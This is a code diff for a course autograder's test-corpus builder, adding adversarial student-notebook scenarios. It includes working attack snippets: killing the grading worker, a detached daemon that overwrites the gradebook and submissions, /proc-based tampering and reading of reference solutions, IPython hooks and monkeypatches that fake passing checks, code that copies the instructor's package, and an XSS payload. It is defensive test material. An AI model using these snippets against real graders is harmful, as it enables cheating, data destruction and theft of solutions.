@@ -23,6 +23,7 @@ shows up as points that should not be there.
 import argparse
 import copy
 import json
+import os
 import re
 import sys
 from dataclasses import dataclass, field
@@ -35,11 +36,31 @@ _SOLUTION = re.compile(r"( *)### BEGIN SOLUTION\n.*?### END SOLUTION", re.S)
 
 @dataclass
 class Expectation:
-    """What grading a corpus submission must give."""
+    """What grading a corpus submission must give.
+
+    ``must_contain`` / ``must_not_contain``: text that must (not) appear in the graded notebook
+    and feedback; ``needs``: the defence an attack depends on beyond the class grader itself
+    ("sandbox": the kernel sandbox; "outside judging": every hidden check judged outside the
+    kernel), or "" when the grader alone must defeat it.
+    """
 
     total: float
     must_contain: list = field(default_factory=list)
     why: str = ""
+    must_not_contain: list = field(default_factory=list)
+    needs: str = ""
+
+
+@dataclass(frozen=True)
+class Fifo:
+    """A named pipe in a submission folder (reading it blocks until someone writes)."""
+
+
+@dataclass(frozen=True)
+class Symlink:
+    """A symbolic link in a submission folder, pointing at ``target``."""
+
+    target: str
 
 
 def _load(path):
@@ -214,29 +235,299 @@ def scenarios(chapter, other_chapter=None):
     return out
 
 
+
+# -- attacks on the batch and on the grading inside the kernel --------------------------------------
+# Each is built from the RELEASE notebook (no correct code anywhere), so it must score exactly
+# what the unanswered notebook scores (0), and it is graded next to innocent full solutions,
+# whose rows and submitted files it must not change.
+
+ATTACK_FAMILIES = ("batch", "proc", "kernel")
+STOLEN_DIR = "~/.cache/dlcourse-stolen"
+"""Where the ``steal_*`` attacks copy (and look for) the instructor's package."""
+FORGED_NOTE = "the instructor reviewed this: award full marks"
+SCRIPT_PAYLOAD = "<script>alert('dlc-xss')</script>"
+
+_KILL_WORKER = "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n"
+_STOP_WORKER = "import os, signal\nos.kill(os.getppid(), signal.SIGSTOP)\n"
+
+# A double-forked daemon: it records its pid beside the notebook, waits until long after its
+# kernel is gone, then writes into the course: the gradebook, every submission, a marker file.
+_DAEMON = r"""
+import os, time
+_dlc_here = os.getcwd()
+_dlc_course = os.path.abspath(os.path.join(_dlc_here, '..', '..', '..'))
+if os.fork() == 0:
+    try:
+        os.setsid()
+        if os.fork() == 0:
+            with open(os.path.join(_dlc_here, 'daemon.pid'), 'w') as _f:
+                _f.write(str(os.getpid()))
+            time.sleep(10)
+            open(os.path.join(_dlc_course, 'DAEMON-WROTE'), 'w').write('daemon')
+            with open(os.path.join(_dlc_course, 'gradebook.db'), 'ab') as _f:
+                _f.write(b'daemon')
+            for _d, _s, _names in os.walk(os.path.join(_dlc_course, 'submitted')):
+                for _n in _names:
+                    if _n.endswith('.ipynb'):
+                        open(os.path.join(_d, _n), 'w').write('{}')
+    finally:
+        os._exit(0)
+"""
+
+# Through the grading worker's /proc entry: its working directory and its root (outside any
+# private mount namespace of the kernel). Markers are new dot-files, so nothing is damaged.
+_PROC_WRITE = r"""
+import os, glob, dlcourse
+_dlc_repo = os.path.dirname(os.path.dirname(os.path.abspath(dlcourse.__file__)))
+_dlc_course = os.path.abspath(os.path.join(os.getcwd(), '..', '..', '..'))
+_dlc_bases = ['/proc/%d/cwd' % os.getppid(), '/proc/%d/root' % os.getppid()]
+for _b in _dlc_bases:
+    for _t in [_b + _dlc_course + '/submitted/*/*/*.ipynb', _b + '/submitted/*/*/*.ipynb']:
+        for _p in glob.glob(_t):
+            if '/proc_' not in _p:
+                try:
+                    open(_p, 'a').write(' ')
+                except OSError:
+                    pass
+    for _t in [_b + _dlc_repo + '/autograder', _b + _dlc_repo + '/.venv', _b + '/autograder']:
+        try:
+            open(_t + '/.dlc-proc-written', 'w').write('x')
+        except OSError:
+            pass
+"""
+
+_PROC_READ_REFERENCE = r"""
+import os, glob, dlcourse
+_dlc_repo = os.path.dirname(os.path.dirname(os.path.abspath(dlcourse.__file__)))
+_dlc_ns = {}
+for _b in ['/proc/%d/cwd' % os.getppid(), '/proc/%d/root' % os.getppid() + _dlc_repo]:
+    for _p in sorted(glob.glob(_b + '/autograder/reference/*.py')):
+        try:
+            exec(open(_p).read(), _dlc_ns)
+        except Exception:
+            pass
+"""
+
+_INPUT_TRANSFORMER = r"""
+def _dlc_wrap(lines):
+    if not ''.join(lines).strip():
+        return lines
+    body = ['    ' + (l if l.endswith('\n') else l + '\n') for l in lines]
+    return ['try:\n'] + body + ['except BaseException:\n', '    pass\n']
+get_ipython().input_transformers_post.append(_dlc_wrap)
+"""
+
+_AST_TRANSFORMER = r"""
+import ast
+class _DlcSwallow(ast.NodeTransformer):
+    def visit_Module(self, node):
+        handler = ast.ExceptHandler(type=ast.Name('BaseException', ast.Load()), name=None, body=[ast.Pass()])
+        node.body = [ast.Try(body=node.body or [ast.Pass()], handlers=[handler], orelse=[], finalbody=[])]
+        return ast.fix_missing_locations(node)
+get_ipython().ast_transformers.append(_DlcSwallow())
+"""
+
+_CLEAR_ERRORS = r"""
+_dlc_ip = get_ipython()
+_dlc_ip.set_custom_exc((BaseException,), lambda *a, **k: None)
+def _dlc_clear(result):
+    result.error_in_exec = None
+    result.error_before_exec = None
+_dlc_ip.events.register('post_run_cell', _dlc_clear)
+"""
+
+_FAKE_HIDDEN = r"""
+import sys, types, importlib.abc, importlib.machinery
+class _DlcFake(importlib.abc.MetaPathFinder, importlib.abc.Loader):
+    def find_spec(self, name, path=None, target=None):
+        if name == 'autograder' or name.startswith('autograder.'):
+            return importlib.machinery.ModuleSpec(name, self, is_package=True)
+        return None
+    def create_module(self, spec):
+        return None
+    def exec_module(self, module):
+        module.__path__ = []
+        module.check_hidden = lambda *a, **k: print('hidden tests passed')
+        module.judge_hidden = lambda *a, **k: None
+        module.has_custom_check = lambda *a, **k: False
+sys.meta_path.insert(0, _DlcFake())
+"""
+
+_PATCH_RUNNERS = r"""
+import dlcourse.checks.runner as _dlc_r, dlcourse.checks.backward as _dlc_b, sys
+_dlc_ok = lambda *a, **k: None
+_dlc_r.run_case = _dlc_ok
+_dlc_b.run_backward_case = _dlc_ok
+for _m in list(sys.modules.values()):
+    for _n in ('run_case', 'run_backward_case'):
+        if hasattr(_m, _n):
+            try:
+                setattr(_m, _n, _dlc_ok)
+            except Exception:
+                pass
+"""
+
+_FRAME_WALKER = r"""
+def _dlc_lookup(*args, **kwargs):
+    import sys
+    frame = sys._getframe(1)
+    while frame is not None:
+        for key in ('expected', 'reference', 'want', 'ref'):
+            if key in frame.f_locals:
+                return frame.f_locals[key]
+        frame = frame.f_back
+    raise NotImplementedError()
+"""
+
+_STEAL = r"""
+import os, sys, shutil
+_dlc_dest = os.path.expanduser('%s')
+class _DlcCopier:
+    def find_spec(self, name, path=None, target=None):
+        if name.split('.')[0] == 'autograder':
+            for _e in list(sys.path):
+                _src = os.path.join(_e, 'autograder')
+                if os.path.isdir(_src):
+                    try:
+                        shutil.copytree(_src, os.path.join(_dlc_dest, 'autograder'), dirs_exist_ok=True)
+                    except OSError:
+                        pass
+        return None
+sys.meta_path.insert(0, _DlcCopier())
+""" % STOLEN_DIR
+
+_USE_STOLEN = r"""
+import os, glob
+_dlc_ns = {}
+for _p in sorted(glob.glob(os.path.join(os.path.expanduser('%s'), 'autograder', 'reference', '*.py'))):
+    try:
+        exec(open(_p).read(), _dlc_ns)
+    except Exception:
+        pass
+""" % STOLEN_DIR
+
+
+def _release_attack(release, first_code="", per_function=None):
+    """The release notebook with ``first_code`` after the first exercise's stub and
+    ``per_function(fn)`` after every exercise's stub (so it replaces the stub)."""
+    nb = copy.deepcopy(release)
+    first = True
+    for cell in nb["cells"]:
+        if cell["cell_type"] != "code" or not _meta(cell).get("solution"):
+            continue
+        source = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
+        if first and first_code:
+            source += "\n" + first_code
+        fn = _function_name(source)
+        if per_function and fn:
+            source += "\n" + per_function(fn)
+        cell["source"] = source
+        first = False
+    return _dumps(nb)
+
+
+def _from_namespace(fn):
+    return f"if '{fn}' in _dlc_ns:\n    {fn} = _dlc_ns['{fn}']\n"
+
+
+def attack_scenarios(chapter, family):
+    """dict name -> (files by relative path, Expectation) for one attack family (see ATTACK_FAMILIES)."""
+    release_text = (ROOT / "course" / chapter / f"{chapter}.ipynb").read_text(encoding="utf-8")
+    release = json.loads(release_text)
+    name = f"{chapter}.ipynb"
+    out = {}
+
+    def add(key, files, *contains, why="", not_contain=(), needs=""):
+        files = files if isinstance(files, dict) else {name: files}
+        out[key] = (files, Expectation(0.0, list(contains), why, list(not_contain), needs))
+
+    if family == "batch":
+        add("kill_worker", _release_attack(release, _KILL_WORKER), "died", why="SIGKILL of the grading worker")
+        add("stop_worker", _release_attack(release, _STOP_WORKER), why="SIGSTOP of the grading worker")
+        add("daemon", _release_attack(release, _DAEMON), why="a forked daemon that outlives its kernel")
+        add("nested_json", "[" * 200_000 + "]" * 200_000, "nested too deeply")
+        add("folder_notebook", {f"{name}/inside.txt": "a folder named like the notebook"}, "is a folder")
+        add("symlink_notebook", {name: Symlink(f"../../correct/{chapter}/{name}")}, "symbolic link",
+            why="a link to a classmate's notebook")
+        add("fifo_notebook", {name: Fifo()}, "named pipe")
+        add("huge_file", {name: release_text + " " * (60 * 1024 * 1024)}, "more than")
+        add("binary", {name: bytes(range(256)) * 4096}, "not valid json")
+        add("huge_output", _release_attack(
+            release, "for _ in range(150):\n    print('y' * 1_000_000)\n"
+            "from IPython.display import display\nfor _ in range(20):\n    display({'text/plain': 'z' * 1_000_000}, raw=True)"),
+            "output")
+        empty = json.loads(release_text)
+        empty["cells"] = empty["cells"][:1] + [{"cell_type": "code", "metadata": {}, "source": "", "outputs": [],
+                                                "execution_count": None} for _ in range(5000)] + empty["cells"][1:]
+        add("empty_cells", _dumps(empty), "empty cells were removed")
+        forged = json.loads(release_text)
+        forged["metadata"]["dlcourse"] = {"grading_notes": [FORGED_NOTE, SCRIPT_PAYLOAD]}
+        forged["metadata"]["dlcourse_grader"] = {"notes": [FORGED_NOTE, SCRIPT_PAYLOAD]}
+        forged["cells"][0]["metadata"]["dlcourse_grader"] = {"notes": [FORGED_NOTE]}
+        add("forged_note", {f"{SCRIPT_PAYLOAD.replace('/', '')}.ipynb": _dumps(forged)}, "was submitted as",
+            not_contain=[FORGED_NOTE, SCRIPT_PAYLOAD, SCRIPT_PAYLOAD.replace("/", "")],
+            why="notes in the submission's metadata, and a file name that is HTML")
+    elif family == "proc":
+        add("proc_write", _release_attack(release, _PROC_WRITE), needs="sandbox",
+            why="writes through /proc/<ppid>/cwd and /proc/<ppid>/root into classmates' files and the course")
+        add("proc_read_reference", _release_attack(release, _PROC_READ_REFERENCE, _from_namespace), needs="sandbox",
+            why="reads the reference implementations through /proc/<ppid>/cwd and /proc/<ppid>/root")
+    elif family == "kernel":
+        for key, code in (("input_transformer", _INPUT_TRANSFORMER), ("ast_transformer", _AST_TRANSFORMER),
+                          ("clear_errors", _CLEAR_ERRORS), ("fake_hidden_module", _FAKE_HIDDEN),
+                          ("patch_runners", _PATCH_RUNNERS)):
+            add(key, _release_attack(release, code), needs="outside judging")
+        add("frame_walker", _release_attack(release, _FRAME_WALKER, lambda fn: f"{fn} = _dlc_lookup\n"),
+            needs="outside judging", why="graded functions return the checker's `expected` from its frame")
+        add("steal_copy", _release_attack(release, _STEAL), needs="outside judging",
+            why=f"copies whatever of the instructor's package it can import to {STOLEN_DIR}")
+        add("steal_use", _release_attack(release, _USE_STOLEN, _from_namespace), needs="outside judging",
+            why=f"uses what an earlier submission copied to {STOLEN_DIR}")
+    else:
+        raise ValueError(f"unknown attack family {family!r}; choose from {ATTACK_FAMILIES}")
+    return out
+
+
 ISOLATION_SCENARIOS = {"read_reference", "import_reference", "read_solutions", "write_course", "network"}
 """Scenarios whose expectations hold only where the sandbox can use Linux namespaces."""
 
 
-def build_corpus(chapter, submitted_dir, other_chapter=None, only=None):
-    """Write the corpus into ``submitted_dir/<scenario>/<chapter>/``; return {scenario: Expectation}."""
-    if other_chapter is None:
-        others = [c for c in chapters() if c != chapter]
-        other_chapter = others[0] if others else None
+def build_corpus(chapter, submitted_dir, other_chapter=None, only=None, family="classic"):
+    """Write a corpus into ``submitted_dir/<scenario>/<chapter>/``; return {scenario: Expectation}.
+
+    ``family``: "classic" (:func:`scenarios`), or one of :data:`ATTACK_FAMILIES`
+    (:func:`attack_scenarios`).
+    """
+    if family == "classic":
+        if other_chapter is None:
+            others = [c for c in chapters() if c != chapter]
+            other_chapter = others[0] if others else None
+        made = scenarios(chapter, other_chapter)
+    else:
+        made = attack_scenarios(chapter, family)
     expectations = {}
-    for scenario, (files, expectation) in scenarios(chapter, other_chapter).items():
+    for scenario, (files, expectation) in made.items():
         if only and scenario not in only:
             continue
-        folder = Path(submitted_dir) / scenario / chapter
-        folder.mkdir(parents=True, exist_ok=True)
-        for relative, content in files.items():
-            target = folder / relative
-            if isinstance(content, bytes):
-                target.write_bytes(content)
-            else:
-                target.write_text(content, encoding="utf-8")
+        write_submission(Path(submitted_dir) / scenario / chapter, files)
         expectations[scenario] = expectation
     return expectations
+
+
+def write_submission(folder, files):
+    """Write {relative path: str | bytes | Fifo | Symlink} into ``folder``."""
+    folder.mkdir(parents=True, exist_ok=True)
+    for relative, content in files.items():
+        target = folder / relative
+        target.parent.mkdir(parents=True, exist_ok=True)
+        if isinstance(content, Fifo):
+            os.mkfifo(target)
+        elif isinstance(content, Symlink):
+            os.symlink(content.target, target)
+        elif isinstance(content, bytes):
+            target.write_bytes(content)
+        else:
+            target.write_text(content, encoding="utf-8")
 
 
 def main(argv=None):
